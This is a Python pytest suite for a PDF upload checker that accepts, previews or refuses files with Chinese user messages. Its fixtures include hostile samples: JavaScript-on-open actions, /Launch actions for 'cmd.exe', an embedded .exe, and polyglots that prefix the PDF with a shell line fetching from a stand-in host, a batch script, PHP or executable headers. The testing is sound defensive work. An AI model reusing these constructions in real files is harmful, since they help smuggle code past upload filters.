"""PDFs at the door: what readers open is taken, and every refusal says what and why."""

from __future__ import annotations

import struct

import pytest

from tests.support.builders import active_files as active
from tests.support.builders import files as builders_files
from tests.support.builders import odd_files as odd
from tests.support.door import SHOWN, TAKEN, at_the_door, drawn

WHOLE = odd.written()
HINT = "请用WPS或浏览器打开，打印为PDF后再传。"
CUT = "文件“文件.pdf”不完整或已损坏，请重新导出后再传。"
PASSWORD = "文件“文件.pdf”设有打开密码，查看人无法打开，请输入密码打开，打印为PDF后再传。"
KIND = "文件“文件.pdf”其实是"
TWO = "文件“文件.pdf”同时是{}，请用原来的软件打开，重新另存后再传。"
WEB = b"<!DOCTYPE html><html><body>error</body></html>"


SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
SCRIPTED = active.pdf_with(active.PDF["a script on opening"][1])


def launching(program: object) -> bytes:
    action = active.dictionary(S="/Launch", F=program)
    return active.pdf_with(active.annotated(Subtype="/Link", A=action))


def with_form() -> bytes:
    field = active.dictionary(FT="/Tx", T="姓名", Subtype="/Widget")
    return active.pdf_with(active.at_root("/AcroForm", active.dictionary(DA=field)))


DOOR = {
    "a mark before its header": (b"\xef\xbb\xbf" + WHOLE, TAKEN),
    "a printer's lines before its header": (b"\x1b%-12345X@PJL\r\n" * 20 + WHOLE, TAKEN),
    "an empty line before its header": (b"\r\n" + WHOLE, TAKEN),
    "another document for readers that count from its header": (
        odd.two_by_their_start(SCRIPT),
        SHOWN,
    ),
    "another document behind its end": (odd.two_by_their_end(SCRIPT), SHOWN),
    "another document in place of its end": (odd.two_by_their_end(SCRIPT, b""), SHOWN),
    "more before its header than readers skip": (
        b"x" * 2000 + WHOLE,
        "文件“文件.pdf”的内容与类型不符或已损坏，请用原来的软件打开，重新另存后再传。",
    ),
    "4,096 zero bytes behind its end": (WHOLE + b"\0" * 4096, TAKEN),
    "a page of a site behind its end": (WHOLE + WEB * 100, TAKEN),
    "no end mark": (WHOLE[: WHOLE.rfind(b"%%EOF")], TAKEN),
    "no line that says where its table is": (WHOLE[: WHOLE.rfind(b"startxref")], TAKEN),
    "no table": (WHOLE[: WHOLE.rfind(b"xref\n0")], CUT),
    "half of it": (WHOLE[: len(WHOLE) // 2], CUT),
    "made for the web": (odd.linearized(), TAKEN),
    "made for the web, cut short": (odd.linearized()[:-280], CUT),
    "restrictions of use": (odd.encrypted(""), TAKEN),
    "restrictions of use by AES": (odd.encrypted("", "AES-256"), TAKEN),
    "a password": (odd.encrypted("open me"), PASSWORD),
    "a page of a site": (WEB, f"{KIND}网页文件，请打开后另存（或打印）为PDF再传。"),
    "a picture": (odd.photo(), f"{KIND}JPG格式的图片，请把名称的后缀改为.jpg后再传。"),
    "a document": (
        builders_files.office(),
        f"{KIND}文字文档，请把名称的后缀改为.docx后再传。",
    ),
    "an archive behind its end": (
        WHOLE + builders_files.office(),
        TWO.format("压缩包（ZIP）"),
    ),
    "an archive behind its end, and more behind that": (
        WHOLE + builders_files.office() + b"\n%%EOF\n",
        TWO.format("压缩包（ZIP）"),
    ),
    "an archive behind its end, without a comment that covers the rest": (
        WHOLE + builders_files.office() + b"x" * 30,
        TWO.format("压缩包（ZIP）"),
    ),
    "an archive with a false directory behind its end": (
        WHOLE + builders_files.office()[:-10] + struct.pack("<IIH", 1, 1, 0) + b"x" * 30,
        TWO.format("压缩包（ZIP）"),
    ),
    "an archive whose comment is the end of the document": (
        WHOLE + b"\n" + b"PK\x05\x06" + b"\0" * 16 + struct.pack("<H", 8) + b"\n%%EOF\n",
        TWO.format("压缩包（ZIP）"),
    ),
    "two archives behind its end, the last without a directory": (
        WHOLE + builders_files.office() + b"PK\x05\x06" + b"\0" * 18 + b"\n%%EOF\n",
        TWO.format("压缩包（ZIP）"),
    ),
    "the words of an archive's end in its text": (
        WHOLE.replace(b"startxref", b"% PK\x05\x06" + b"\0" * 18 + b"\nstartxref"),
        TAKEN,
    ),
    "a program of Windows before its header": (b"MZ" + b"\0" * 60 + WHOLE, TWO.format("程序")),
    "a program of Windows, named as such": (
        b"MZ" + b"\0" * 60 + b"PE\0\0" + WHOLE,
        f"{KIND}程序，程序不能上传。",
    ),
    "a program of Linux before its header": (
        b"\x7fELF\2\1\1" + b"\0" * 50 + WHOLE,
        f"{KIND}程序，程序不能上传。",
    ),
    "a program of another system before its header": (
        b"\xcf\xfa\xed\xfe" + b"\0" * 50 + WHOLE,
        TWO.format("程序"),
    ),
    "a shortcut before its header": (b"L\0\0\0\1\x14\2\0" + WHOLE, TWO.format("程序")),
    "a script of a shell before its header": (
        b"#!/bin/sh\ncurl -O http://x/\nexit\n" + WHOLE,
        f"{KIND}程序，程序不能上传。",
    ),
    "a script behind blanks before its header": (b"\r\n\t#!/bin/sh\n" + WHOLE, TWO.format("程序")),
    "a script of Windows before its header": (
        b"\xef\xbb\xbf@Echo off\r\nstart calc.exe\r\n" + WHOLE,
        TWO.format("程序"),
    ),
    "a script of a server before its header": (b"<?php x(); ?>\n" + WHOLE, TWO.format("程序")),
    "a script of a page before its header": (b"<SCRIPT>x()</SCRIPT>" + WHOLE, TWO.format("程序")),
    "a page of a site before its header": (
        b"<!DOCTYPE html><p>x</p>\n" + WHOLE,
        TWO.format("网页文件"),
    ),
    "a drawing before its header": (b"<svg></svg>" + WHOLE, TWO.format("SVG格式的图片")),
    "what only begins like a program's name": (b"Mz\n#\n" + WHOLE, TAKEN),
    "a document inside": (
        active.pdf_with(active.embedded("明细.docx", builders_files.office())),
        SHOWN,
    ),
    "301 pages": (
        builders_files.pdf(pages=301),
        "文件“文件.pdf”有301页，最多300页，请分成几个文件后再传。",
    ),
    "one page outside its own bounds": (odd.with_box("/CropBox", (900, 900, 999, 999)), TAKEN),
    "a form to fill in": (with_form(), TAKEN),
    "a form that is sent": (
        active.pdf_with(active.annotated(Subtype="/Widget", A=active.dictionary(S="/SubmitForm"))),
        SHOWN,
    ),
    "a program to start": (
        launching("cmd.exe"),
        f"文件“文件.pdf”含有启动程序的动作。第1处：启动“cmd.exe”。{HINT}",
    ),
    "a program to start, by a description": (
        launching(active.dictionary(Type="/Filespec", UF="C:\\工具.bat", F="x")),
        f"文件“文件.pdf”含有启动程序的动作。第1处：启动“C:\\工具.bat”。{HINT}",
    ),
    "a program inside": (
        active.pdf_with(active.embedded("发票.exe", b"x")),
        f"文件“文件.pdf”含有内嵌的程序。第1处：文件“发票.exe”。{HINT}",
    ),
    "restrictions, and a script": (odd.encrypted("", "AES-256", SCRIPTED), SHOWN),
    "restrictions, and a program to start": (
        odd.encrypted("", plain=launching("cmd.exe")),
        f"文件“文件.pdf”含有启动程序的动作。第1处：启动“cmd.exe”。{HINT}",
    ),
    "a script behind a printer's lines": (b"@PJL\r\n" * 9 + SCRIPTED, SHOWN),
    "a script and no end mark": (SCRIPTED[: SCRIPTED.rfind(b"%%EOF")], SHOWN),
    "nothing": (b"", "文件“文件.pdf”是空的（0字节），请重新选择。"),
}


@pytest.mark.parametrize("what", DOOR)
def test_a_pdf_is_taken_or_told_why_not(what: str) -> None:
    data, answer = DOOR[what]
    assert at_the_door("文件.pdf", data) == answer


@pytest.mark.parametrize("what", [what for what, (_, answer) in DOOR.items() if answer == TAKEN])
def test_what_is_taken_has_pictures(what: str) -> None:
    assert drawn("文件.pdf", DOOR[what][0])


ODD_BOXES = [
    ("/CropBox", (900, 900, 999, 999)),
    ("/CropBox", (-500, -500, -400, -400)),
    ("/MediaBox", (0, 0, 1e9, 1e9)),
]


@pytest.mark.parametrize(("key", "box"), ODD_BOXES)
def test_one_odd_page_takes_no_other_with_it(key: str, box: tuple[float, ...]) -> None:
    pages = [page for page, *_ in drawn("文件.pdf", odd.with_box(key, box))]
    assert {1, 3} <= set(pages)


def test_only_a_page_that_can_be_drawn_has_a_picture() -> None:
    outside = (900, 900, 999, 999)
    assert [p for p, *_ in drawn("a.pdf", odd.with_box("/CropBox", outside))] == [1, 3]
    assert drawn("a.pdf", odd.with_box("/CropBox", outside, odd=(1, 2, 3))) == []


def test_a_long_page_is_in_readable_pieces() -> None:
    """As browsers print a whole page of a site on one sheet."""
    pieces = drawn("a.pdf", odd.of_size(375, 6000))
    assert [(page, piece) for page, piece, *_ in pieces] == [(1, n) for n in range(1, 13)]
    assert all(1078 <= width <= 1082 and height <= 1600 for _, _, width, height in pieces)
    # 17,280 pixels, and each piece but the first repeats 80.
    assert abs(sum(height for *_, height in pieces) - 11 * 80 - 17_280) < 24
